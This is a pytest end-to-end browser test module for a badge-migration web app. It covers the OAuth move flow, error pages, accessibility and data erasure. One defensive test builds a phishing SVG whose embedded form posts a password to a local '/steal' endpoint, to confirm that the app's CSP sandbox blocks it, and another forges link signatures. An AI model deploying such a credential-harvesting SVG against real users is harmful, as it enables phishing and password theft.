"""The learner's pages in a real headless Chromium, against the whole local stack over HTTP.

One local stack per module (issuer sites, Badgr sandbox, moto, the functions in-process) with the
demo export uploaded and read; each test then plays one learner in a fresh browser context.

The browser is the system Chromium (``make browser`` installs Debian's package); Playwright
drives it and never downloads one. Without Chromium the module skips, unless ``CI`` is set: there
the tests must run, so they fail instead.

Every page, error pages and the 404 included, is checked by axe-core (``make browser`` installs the
version infra/local/browser/package-lock.json pins) at a desktop and a mobile width: zero
violations. With ``SCREENSHOTS=<folder>`` set, the landing and status pages shown in the README
are saved there (``SCREENSHOTS=docs``).
"""

from __future__ import annotations

import os
import re
import shutil
import struct
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest

from infra.local.demo import Running, links_by_email, running
from infra.local.sample_export import BadgrAccount, ExpectedBadge

pytestmark = [pytest.mark.e2e, pytest.mark.browser]

ROOT = Path(__file__).resolve().parents[2]
AXE = ROOT / "infra" / "local" / "browser" / "node_modules" / "axe-core" / "axe.min.js"
DESKTOP = {"width": 1024, "height": 800}
MOBILE = {"width": 375, "height": 740}
CHROMIUM_ARGS = [
    "--headless=new",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-quic",
    "--no-first-run",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
]
MOVE_BUTTON = "Move my badges to Badgr"
# Learners whose badges really move (allowed on Badgr); every other learner's badges stay put.
MOVERS = ("ken@example.org", "pat@example.org")
DENIER = "hedy@example.org"
KEYBOARD_USER = "tim@example.org"
# What the status page says of each final state, in the learner's words.
OUTCOME_WORDS = {
    "imported": "In your Badgr backpack.",
    "already_in_badgr": "Already in your Badgr backpack.",
    "pending": "Waiting for you to confirm your email address in Badgr.",
}
NOT_PLAIN = re.compile(
    r"Traceback|Exception|Error\(|\bNone\b|\{|\}|\b[A-Z]{2,}_[A-Z_]+\b|https?://|Internal Server Error"
)


# --------------------------------------------------------------------------------- fixtures


def _chromium() -> str | None:
    for candidate in (os.environ.get("CHROMIUM"), "/usr/bin/chromium", "/usr/bin/chromium-browser"):
        if candidate and os.access(candidate, os.X_OK):
            return candidate
    return shutil.which("chromium")


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    executable = _chromium()
    if executable is None:
        message = "Chromium is not installed; install it with `make browser` (infra/local/install-browser.sh)"
        if os.environ.get("CI"):
            pytest.fail(f"{message}. CI is set, so the browser tests must run.", pytrace=False)
        pytest.skip(message)
    from playwright.sync_api import sync_playwright

    playwright = sync_playwright().start()
    try:
        chromium = playwright.chromium.launch(executable_path=executable, args=CHROMIUM_ARGS)
        try:
            yield chromium
        finally:
            chromium.close()
    finally:
        playwright.stop()


@dataclass
class World:
    run: Running
    links: dict[str, str]  # lower-case email -> the link from the learner's email

    def account(self, email: str) -> BadgrAccount:
        learner = next(x for x in self.run.world.learners if x.email.lower() == email)
        return next(a for a in self.run.world.accounts if a.username == learner.account)

    def expected(self, email: str) -> dict[str, ExpectedBadge]:
        """file name -> what should become of it, for every badge of this learner."""
        return {e.file: e for e in self.run.world.expected if e.email.lower() == email}

    def records(self, email: str) -> list[Any]:
        """The learner's badge records."""
        from backpack_migrate.services import get_services

        svc = get_services()
        return svc.store.list_badges(svc.learner_id(email))

    def learner(self, email: str) -> Any:
        from backpack_migrate.services import get_services

        svc = get_services()
        return svc.store.get_learner(svc.learner_id(email))


@pytest.fixture(scope="module")
def world(browser: Any, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    with running(ROOT, tmp_path_factory.mktemp("browser-stack")) as run:
        run.upload()
        run.stack.wait_idle(timeout=240)
        links = links_by_email(run.stack)
        emails = {learner.email.lower() for learner in run.world.learners}
        assert set(links) == emails, f"no link emailed to {sorted(emails - set(links))}"
        yield World(run, links)


@pytest.fixture
def page(browser: Any) -> Iterator[Any]:
    context = browser.new_context(viewport={"width": 1024, "height": 800}, locale="en-GB")
    context.set_default_timeout(20_000)
    try:
        yield context.new_page()
    finally:
        context.close()


# --------------------------------------------------------------------------------- helpers


def token_of(link: str) -> str:
    return urlsplit(link).path.rsplit("/", 1)[-1]


def badge_items(page: Any) -> list[dict[str, Any]]:
    """What the page shows of each badge, read from the rendered DOM."""
    items: list[dict[str, Any]] = page.locator("li.badge").evaluate_all(
        """lis => lis.map(li => {
            const img = li.querySelector('img');
            const verdict = li.querySelector('.verdict');
            const facts = li.querySelector('.facts');
            return {
                badge: li.dataset.badge,
                state: li.dataset.state,
                name: li.querySelector('.name').innerText.trim(),
                facts: facts ? facts.innerText.trim() : null,
                verdict: verdict.innerText.trim(),
                verdictClass: [...verdict.classList].filter(c => c !== 'verdict'),
                img: img ? {src: img.getAttribute('src'), complete: img.complete,
                            naturalWidth: img.naturalWidth, alt: img.getAttribute('alt')} : null,
                placeholder: li.querySelector('.noimage') !== null,
            };
        })"""
    )
    return items


def in_page_order(shown: list[dict[str, Any]], records: list[Any]) -> list[Any]:
    """The records in the order the page lists them (grouped by what will happen to them)."""
    by_id = {record.badge_id: record for record in records}
    assert sorted(by_id) == sorted(item["badge"] for item in shown)
    return [by_id[item["badge"]] for item in shown]


def assert_counts_add_up(page: Any, listed: int) -> None:
    """Every count on the page is the size of the group it heads, and together they are every badge."""
    groups = page.locator("section.group").evaluate_all(
        """secs => secs.map(s => ({heading: s.querySelector('h2').innerText,
                                   badges: s.querySelectorAll('li.badge').length}))"""
    )
    for group in groups:
        count = int(re.fullmatch(r".+ \((\d+)\)", group["heading"])[1])  # type: ignore[index]
        assert count == group["badges"], group
    assert sum(g["badges"] for g in groups) == listed == page.locator("li.badge").count(), groups
    lines = page.locator("ul.counts > li").all_inner_texts()
    if lines:
        assert sum(int(line.rsplit(": ", 1)[1]) for line in lines) == listed, lines
        bar = page.locator("progress")
        assert int(bar.get_attribute("max")) == listed
        done = re.search(r"(\d+) of (\d+) done", page.locator("p.progress").inner_text())
        if done:
            assert (int(done[1]), int(done[2])) == (int(bar.get_attribute("value")), listed)
        else:
            assert int(bar.get_attribute("value")) == listed


def assert_plain(text: str) -> None:
    assert text and text[0].isupper() and text[-1] in ".)", f"not a sentence: {text!r}"
    assert not NOT_PLAIN.search(text), f"not plain words: {text!r}"


def assert_no_broken_images(page: Any) -> None:
    # Each image is a request of its own to the web function; a page whose HTML has arrived may
    # still be waiting for them.
    page.wait_for_load_state("load")
    page.wait_for_function("() => [...document.images].every(i => i.complete)")
    broken = page.locator("img").evaluate_all(
        "imgs => imgs.filter(i => !(i.complete && i.naturalWidth > 0)).map(i => i.outerHTML)"
    )
    assert broken == [], f"images that did not load: {broken}"


def png_size(data: bytes) -> tuple[int, int]:
    assert data[:8] == b"\x89PNG\r\n\x1a\n", "not a PNG"
    assert data[12:16] == b"IHDR"
    width, height = struct.unpack(">II", data[16:24])
    return width, height


def check_accessibility(page: Any) -> None:
    """Checks that need no extra tools: language, title, one h1, alt texts, named controls, contrast."""
    facts = page.evaluate(
        """() => ({
            lang: document.documentElement.getAttribute('lang'),
            title: document.title,
            h1: document.querySelectorAll('h1').length,
            noAlt: [...document.querySelectorAll('img:not([alt])')].map(i => i.outerHTML),
            unnamed: [...document.querySelectorAll('button, a[href], input:not([type=hidden])')]
                .filter(e => !(e.innerText || e.getAttribute('aria-label') || e.labels?.length))
                .map(e => e.outerHTML),
            viewport: !!document.querySelector('meta[name=viewport]'),
        })"""
    )
    assert facts["lang"], "<html> has no lang"
    assert facts["title"].strip(), "no <title>"
    assert facts["h1"] == 1, f"{facts['h1']} <h1> elements"
    assert facts["noAlt"] == [], f"images without alt: {facts['noAlt']}"
    assert facts["unnamed"] == [], f"controls without a name: {facts['unnamed']}"
    assert facts["viewport"], "no viewport meta"
    low = page.evaluate(
        """() => {
            const rgb = s => (s.match(/[\\d.]+/g) || []).map(Number);
            const lum = ([r, g, b]) => {
                const f = c => { c /= 255; return c <= 0.03928 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4; };
                return 0.2126 * f(r) + 0.7152 * f(g) + 0.0722 * f(b);
            };
            const background = el => {
                for (; el; el = el.parentElement) {
                    const c = rgb(getComputedStyle(el).backgroundColor);
                    if (c.length === 3 || (c.length === 4 && c[3] > 0)) return c.slice(0, 3);
                }
                return [255, 255, 255];
            };
            const found = [];
            for (const el of document.querySelectorAll('h1, p, li, .name, .facts, .verdict, button, a')) {
                if (!el.innerText.trim()) continue;
                const a = lum(rgb(getComputedStyle(el).color).slice(0, 3)), b = lum(background(el));
                const ratio = (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05);
                if (ratio < 4.5) found.push(`${el.tagName}.${el.className}: ${ratio.toFixed(2)}`);
            }
            return found;
        }"""
    )
    assert low == [], f"text below 4.5:1 contrast: {low}"


def _axe_source() -> str:
    if not AXE.is_file():
        pytest.fail(f"axe-core is not installed ({AXE.relative_to(ROOT)}); run `make browser`", pytrace=False)
    return AXE.read_text(encoding="utf-8")


def check_axe(page: Any) -> None:
    """axe-core finds no violation on the page as it is, at a desktop and at a mobile width."""
    source = _axe_source()
    before = page.viewport_size
    try:
        for size in (DESKTOP, MOBILE):
            page.set_viewport_size(size)
            if not page.evaluate("typeof window.axe !== 'undefined'"):
                page.evaluate(source)  # evaluated by the driver: the page's own CSP does not apply
            violations = page.evaluate(
                """async () => (await axe.run(document, {resultTypes: ['violations']})).violations
                    .map(v => ({id: v.id, impact: v.impact, help: v.help,
                                nodes: v.nodes.slice(0, 3).map(n => n.html)}))"""
            )
            assert violations == [], f"axe at {size['width']}px on {page.url}: {violations}"
    finally:
        page.set_viewport_size(before)


def save_screenshot(page: Any, name: str, tmp_path: Path) -> Path:
    """A screenshot of the viewport (small enough to commit); also into $SCREENSHOTS when set."""
    shot = tmp_path / name
    page.screenshot(path=str(shot))
    folder = os.environ.get("SCREENSHOTS")
    if folder:
        target = (ROOT / folder).resolve()
        target.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(shot, target / name)
    return shot


def check_error_page(page: Any, response: Any, status: int, heading: str) -> None:
    assert response.status == status
    assert page.locator("h1").inner_text() == heading
    message = page.locator("main p").inner_text()
    assert_plain(message)
    content = page.content()
    assert not NOT_PLAIN.search(page.locator("body").inner_text()), content
    assert "Traceback" not in content
    # Styled like the other pages, not a bare error.
    assert page.evaluate("getComputedStyle(document.body).maxWidth") != "none"
    assert page.locator("form, button").count() == 0
    # Every error page says where to get help.
    assert page.locator("footer a[href^='mailto:']").count() == 1
    check_accessibility(page)
    check_axe(page)


# --------------------------------------------------------------------------------- tests


def test_every_badge_is_listed_with_image_facts_and_a_plain_verdict(
    world: World, page: Any, tmp_path: Path
) -> None:
    media_seen: Counter[str] = Counter()
    learners = sorted({learner.email.lower() for learner in world.run.world.learners} - set(MOVERS))
    for email in learners:
        response = page.goto(world.links[email])
        assert response.status == 200
        expected = world.expected(email)
        records = world.records(email)
        shown = badge_items(page)
        assert len(shown) == len(expected) == len(records), email
        assert page.locator("p.kept").inner_text().startswith(f"We kept {len(expected)} badge")
        # The page names the address it is for and until when its link works.
        assert (
            page.locator("p.for").inner_text().startswith(f"This page is for {email}. Its link works until ")
        )
        assert page.locator("p.badgr a").inner_text() == "create one on Badgr"
        assert_counts_add_up(page, len(expected))
        assert_no_broken_images(page)
        for item, record in zip(shown, in_page_order(shown, records), strict=True):
            want = expected[record.file_name]
            where = f"{email} {record.file_name}: {item}"
            assert_plain(item["verdict"])
            if record.media_type in ("image/png", "image/svg+xml"):
                assert item["img"] is not None and item["img"]["naturalWidth"] > 0, where
                assert item["img"]["alt"] is not None, where
                media_seen[record.media_type] += 1
            else:
                assert item["img"] is None and item["placeholder"], where
            unnamed = f"Unnamed badge ({record.file_name.rsplit('/', 1)[-1]})"
            if not record.verdict or not record.verdict.issuer_name:
                assert item["facts"].startswith("Unknown issuer ("), where
            if want.state.value == "unreadable":
                assert item["name"] == unnamed, where
                assert item["verdictClass"] == ["bad"], where
                assert item["verdict"] == f"This badge cannot be moved: {record.problem.message}", where
            elif want.state.value in OUTCOME_WORDS:
                # A good badge: its name, issuer and date, and that it can move.
                assert item["name"] == want.badge_name, where
                assert item["facts"] is not None, where
                facts = rf"Issued by {re.escape(want.issuer_name or '')} on \d{{1,2}} [A-Z][a-z]+ \d{{4}}\."
                assert re.fullmatch(facts, item["facts"]), where
                assert item["verdictClass"] == ["ok"], where
                assert item["verdict"] == "This badge is valid and ready to move.", where
            else:
                # Going to be refused: the page names the badge (or its file) and gives the reason now.
                assert item["name"] in (want.badge_name, unnamed), where
                assert item["verdictClass"][0] in ("bad", "warn", "ok"), where
                if item["verdictClass"] != ["ok"]:
                    assert re.match(r"This badge (cannot be moved|may not move): \S", item["verdict"]), where
        assert page.get_by_role("button", name=MOVE_BUTTON).count() == 1, email
        # Images at their natural size (unless the screen is narrower).
        natural = page.locator("li.badge img").evaluate_all(
            "imgs => imgs.filter(i => i.width !== i.naturalWidth).map(i => i.outerHTML)"
        )
        assert natural == [], natural
        check_axe(page)
    assert media_seen["image/png"] > 0 and media_seen["image/svg+xml"] > 0, media_seen

    # A screenshot of a page with good and unreadable badges side by side.
    page.goto(world.links["john@example.org"])
    assert_no_broken_images(page)
    data = save_screenshot(page, "landing.png", tmp_path).read_bytes()
    width, height = png_size(data)
    assert width == 1024 and height == 800, (width, height)
    assert len(data) > 15_000, f"screenshot of {len(data)} bytes looks empty"


@pytest.mark.parametrize("email", MOVERS)
def test_allowing_on_badgr_moves_the_badges_and_the_status_page_follows(
    world: World, page: Any, email: str, tmp_path: Path
) -> None:
    account = world.account(email)
    sandbox = world.run.sandbox
    expected = world.expected(email)
    # Badgr answers the first import slowly, so the learner surely sees the move in progress.
    sandbox.fail_next("/v2/backpack/import", 0, count=1, delay=6)
    status_loads: list[int] = []
    page.on("response", lambda r: status_loads.append(r.status) if r.url.endswith("/status") else None)

    page.goto(world.links[email])
    page.get_by_role("button", name=MOVE_BUTTON).click()
    page.wait_for_url(f"{sandbox.authorize_endpoint}?*")
    assert page.locator("h1").inner_text() == "Sign in to Badgr"
    page.fill("#username", account.username)
    page.fill("#password", account.password)
    page.click("#allow")
    page.wait_for_url(re.compile(r"/l/[^/]+/status$"))

    progress = page.locator("p.progress")
    assert progress.get_attribute("data-finished") == "false"
    assert re.fullmatch(rf"Moving your badges: \d+ of {len(expected)} done\.", progress.inner_text())
    assert page.locator("meta[http-equiv=refresh]").count() == 0
    assert page.locator("progress").count() == 1
    assert "You may close this page" in page.locator("p.close").inner_text()
    # The script runs (allowed by its hash), so the no-script Refresh link is hidden.
    assert page.locator("p.refresh").is_hidden()
    assert_counts_add_up(page, len(expected))

    # The page's script polls status.json until the move has finished; the page is never reloaded.
    from playwright.sync_api import expect

    polls: list[int] = []
    page.on("response", lambda r: polls.append(r.status) if r.url.endswith("/status.json") else None)
    expect(page.locator("p.progress")).to_have_attribute("data-finished", "true", timeout=90_000)
    assert status_loads == [200], status_loads
    assert polls and set(polls) == {200}, polls
    assert page.locator("p.progress").inner_text() == "Moving your badges has finished."
    assert page.locator("progress").get_attribute("value") == str(len(expected))
    assert page.locator("meta[http-equiv=refresh]").count() == 0
    assert_no_broken_images(page)
    assert_counts_add_up(page, len(expected))
    check_accessibility(page)  # on a page that no longer changes under the checks
    check_axe(page)

    shown = badge_items(page)
    records = world.records(email)
    assert len(shown) == len(records) == len(expected)
    for item, record in zip(shown, in_page_order(shown, records), strict=True):
        want = expected[record.file_name]
        where = f"{email} {record.file_name}: {item}"
        assert item["state"] == want.state.value, where
        assert_plain(item["verdict"])
        if want.state.value in OUTCOME_WORDS:
            assert item["verdict"] == OUTCOME_WORDS[want.state.value], where
            assert item["verdictClass"][0] in ("ok", "warn"), where
        else:
            assert re.match(r"(Could not be moved|This badge cannot be moved): \S", item["verdict"]), where
            assert item["verdictClass"] == ["bad"], where
    states = {item["state"] for item in shown}
    if "pending" in states:
        # Exactly what to do, with the address and the links.
        todo = page.locator("p.todo").inner_text()
        assert todo.startswith(f"Confirm {email} in Badgr (open your Badgr account"), todo
        assert todo.endswith("then come back here."), todo
        assert page.locator("p.todo strong").inner_text() == email
    if "imported" in states:
        button = page.get_by_role("link", name="Open my Badgr backpack")
        assert button.get_attribute("href").endswith("/recipient/badges")
    else:
        assert page.get_by_role("link", name="Open my Badgr backpack").count() == 0

    held = {a.get("openBadgeId") for a in sandbox.assertions_of(account.username)}
    assert held == world.run.world.held_ids(account.username, include_pending=True)

    if email == MOVERS[0]:
        page.evaluate("window.scrollTo(0, 0)")
        save_screenshot(page, "status.png", tmp_path)

    # Back to the link later: nothing is left to move, and the status is one click away.
    page.goto(world.links[email])
    assert page.get_by_role("button", name=MOVE_BUTTON).count() == 0
    assert page.get_by_text("None of these badges is waiting to move.").count() == 1
    assert page.get_by_role("link", name="See how the move is going").count() == 1


def test_denying_on_badgr_moves_nothing_and_the_link_still_offers_the_move(world: World, page: Any) -> None:
    email = DENIER
    account = world.account(email)
    sandbox = world.run.sandbox
    before = [(r.badge_id, r.state) for r in world.records(email)]
    held_before = sandbox.assertions_of(account.username)

    page.goto(world.links[email])
    page.get_by_role("button", name=MOVE_BUTTON).click()
    page.wait_for_url(f"{sandbox.authorize_endpoint}?*")
    state = parse_qs(urlsplit(page.url).query)["state"][0]
    page.fill("#username", account.username)
    page.fill("#password", account.password)
    page.click("#deny")
    # The sandbox, like Badgr's own page, says plainly that nothing was allowed.
    assert "denied" in page.locator("h1").inner_text().lower()
    assert "did not allow" in page.locator("main").inner_text()

    # Badgr's OAuth server may instead send the learner back with an error: our page says so.
    response = page.goto(f"{world.run.stack.url}/oauth/callback?error=access_denied&state={state}")
    check_error_page(page, response, 400, "Badgr was not connected")
    assert "no badge was moved" in page.locator("main p").inner_text()

    world.run.stack.wait_idle(timeout=60)
    assert [(r.badge_id, r.state) for r in world.records(email)] == before
    assert sandbox.assertions_of(account.username) == held_before
    assert world.learner(email).migration_requested_at is None

    response = page.goto(world.links[email])
    assert response.status == 200
    assert page.get_by_role("button", name=MOVE_BUTTON).count() == 1
    assert page.get_by_role("link", name="See how the move is going").count() == 0
    assert {item["state"] for item in badge_items(page)} <= {"verified", "unreadable"}


def test_forged_and_expired_links_get_a_clear_error_page(world: World, page: Any, tmp_path: Path) -> None:
    from backpack_migrate.links import sign_link, verify_link
    from backpack_migrate.services import get_services

    link = world.links["annie@example.org"]
    token = token_of(link)
    base = link[: -len(token)]
    body, _, signature = token.partition(".")
    forged = f"{body}.{signature[:-4]}{'AAAA' if not signature.endswith('AAAA') else 'BBBB'}"
    secret = get_services().link_secret()
    claims = verify_link(secret, token)
    expired = sign_link(secret, claims.learner_id, claims.export_id, ttl_seconds=-3600)

    for bad, status in ((forged, 403), (expired, 410), ("not-a-link", 403)):
        for path in ("", "/status"):
            response = page.goto(base + bad + path)
            check_error_page(page, response, status, "This link cannot be used")
            text = page.locator("main p").inner_text()
            if bad == expired:
                assert "expired" in text
                assert "write to " in text and "@" in text  # who to ask for a new one
            else:
                assert "not valid" in text or "incomplete" in text
    assert page.title() == "This link cannot be used"


def test_pages_pass_basic_accessibility_checks_and_work_from_the_keyboard(world: World, page: Any) -> None:
    link = world.links[KEYBOARD_USER]
    page.goto(link)
    check_accessibility(page)

    # The move button is reachable with Tab and submits with Enter.
    for _ in range(10):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.tagName") == "BUTTON":
            break
    focused = page.evaluate("[document.activeElement.tagName, document.activeElement.innerText]")
    assert focused == ["BUTTON", MOVE_BUTTON]
    with page.expect_navigation():
        page.keyboard.press("Enter")
    assert page.url.startswith(world.run.sandbox.authorize_endpoint + "?")
    assert page.locator("h1").inner_text() == "Sign in to Badgr"

    # The status page (before any move: in progress, polling) and the error pages pass the same checks.
    page.goto(f"{link}/status")
    assert page.locator("progress").count() == 1
    check_accessibility(page)
    check_axe(page)
    page.goto(f"{link}x")
    check_accessibility(page)
    check_axe(page)


class _FormTarget:
    """A site of its own on another loopback port: it serves the SVG plainly (the control) and
    records every form that reaches it."""

    def __init__(self) -> None:
        import threading
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        posts: list[bytes] = []
        self.posts = posts
        self.svg = b""
        outer = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                self.send_response(200)
                self.send_header("Content-Type", "image/svg+xml")
                self.end_headers()
                self.wfile.write(outer.svg)

            def do_POST(self) -> None:
                posts.append(self.rfile.read(int(self.headers.get("Content-Length") or 0)))
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.end_headers()
                self.wfile.write(b"got it")

            def log_message(self, format: str, *args: Any) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def _phishing_svg(action: str) -> bytes:
    return (
        '<svg xmlns="http://www.w3.org/2000/svg" width="320" height="200">'
        '<foreignObject x="0" y="0" width="320" height="200">'
        f'<form xmlns="http://www.w3.org/1999/xhtml" action="{action}" method="post">'
        '<input id="pw" name="password" value="hunter2"/>'
        '<button id="go" type="submit">Sign in</button>'
        "</form></foreignObject></svg>"
    ).encode()


def test_a_form_inside_an_svg_badge_opened_on_its_own_cannot_submit(world: World, page: Any) -> None:
    import io
    import zipfile

    import boto3

    from backpack_migrate.crypto import badge_id_for
    from backpack_migrate.domain import BadgeRecord, BadgeState, ExportRecord, ExportStatus, Problem
    from backpack_migrate.export import BytesRangeReader, member_index
    from backpack_migrate.links import sign_link
    from backpack_migrate.services import get_services

    target = _FormTarget()
    try:
        svg = target.svg = _phishing_svg(f"{target.url}/steal")
        # The control: the same SVG served plainly by its own site submits its form.
        page.goto(f"{target.url}/plain.svg")
        page.fill("#pw", "hunter2")
        page.click("#go")
        page.wait_for_url(f"{target.url}/steal")
        assert target.posts == [b"password=hunter2"]
        target.posts.clear()

        # The same SVG as a badge of an export, opened on its own through the learner's link. It
        # is put on record directly (outside exports/, so no intake), to leave the demo alone.
        buffer = io.BytesIO()
        with zipfile.ZipFile(buffer, "w") as archive:
            archive.writestr("phish.svg", svg)
        data = buffer.getvalue()
        bucket = world.run.stack.resource("ExportsBucket")
        put = boto3.client("s3").put_object(Bucket=bucket, Key="fixtures/phish.zip", Body=data)
        svc = get_services()
        export = ExportRecord(
            export_id="phish-export",
            bucket=bucket,
            key="fixtures/phish.zip",
            etag=put["ETag"].strip('"'),
            version_id=put.get("VersionId"),
            size=len(data),
            status=ExportStatus.CHUNKED,
        )
        svc.store.put_export_if_absent(export)
        learner_id = "f" * 32
        badge = BadgeRecord(
            learner_id=learner_id,
            badge_id=badge_id_for(learner_id, export.export_id, "phish.svg"),
            export_id=export.export_id,
            file_name="phish.svg",
            media_type="image/svg+xml",
            member=member_index(BytesRangeReader(data))["phish.svg"],
            state=BadgeState.UNREADABLE,
            problem=Problem(code="NOTHING_BAKED", message="This image holds no badge information."),
        )
        svc.store.put_badges_if_absent([badge])
        token = sign_link(svc.link_secret(), learner_id, export.export_id, 3600)
        blocked: list[str] = []
        page.on("console", lambda message: blocked.append(message.text))
        response = page.goto(f"{world.run.stack.url}/l/{token}/badges/{badge.badge_id}/image")
        assert response is not None and response.status == 200
        assert response.headers["content-type"] == "image/svg+xml"
        policy = response.headers["content-security-policy"]
        assert policy == "default-src 'none'; style-src 'unsafe-inline'; sandbox"
        # The form is drawn (it is only markup), yet neither a click nor Enter sends it anywhere.
        page.fill("#pw", "hunter2")
        page.click("#go")
        page.press("#pw", "Enter")
        page.wait_for_timeout(1500)
        assert target.posts == []
        assert page.url.endswith("/image")
        assert any("sandboxed" in text and "allow-forms" in text for text in blocked), blocked
    finally:
        target.close()


def test_unknown_paths_get_a_readable_404_page(world: World, page: Any) -> None:
    for path in ("/nowhere", "/l/", "/l/abc/def/ghi", "/favicon.ico"):
        response = page.goto(world.run.stack.url + path)
        check_error_page(page, response, 404, "Page not found")


def test_download_my_badges_gives_the_images_as_exported_and_a_page_that_reads_offline(
    world: World, page: Any, tmp_path: Path
) -> None:
    import zipfile

    email = "john@example.org"
    page.goto(world.links[email])
    with page.expect_download() as waiting:
        page.get_by_role("link", name="Download my badges").click()
    saved = tmp_path / "badges.zip"
    waiting.value.save_as(saved)
    with zipfile.ZipFile(saved) as archive:
        names = archive.namelist()
        archive.extractall(tmp_path / "unpacked")
    records = world.records(email)
    with_image = [r for r in records if r.member is not None]
    assert len([n for n in names if n.startswith("badges/")]) == len(with_image)
    assert {"badges.json", "index.html"} <= set(names)
    # The offline page opens from the unpacked files, with its images, and passes axe too.
    page.goto((tmp_path / "unpacked" / "index.html").as_uri())
    assert page.locator("li").count() == len(records)
    assert_no_broken_images(page)
    check_axe(page)


def test_erasing_my_data_asks_first_then_leaves_nothing_and_says_so(world: World, page: Any) -> None:
    email = "katherine@example.org"
    page.goto(world.links[email])
    page.get_by_role("link", name="Erase my data").click()
    assert page.locator("h1").inner_text() == "Erase my data"
    assert "expires, by" in page.locator("main").inner_text()
    check_accessibility(page)
    check_axe(page)
    page.get_by_role("button", name="Erase my data now").click()
    assert page.locator("h1").inner_text() == "Your data has been erased"
    check_axe(page)
    assert world.learner(email) is None and world.records(email) == []
    response = page.goto(world.links[email])
    check_error_page(page, response, 410, "Your data has been erased")
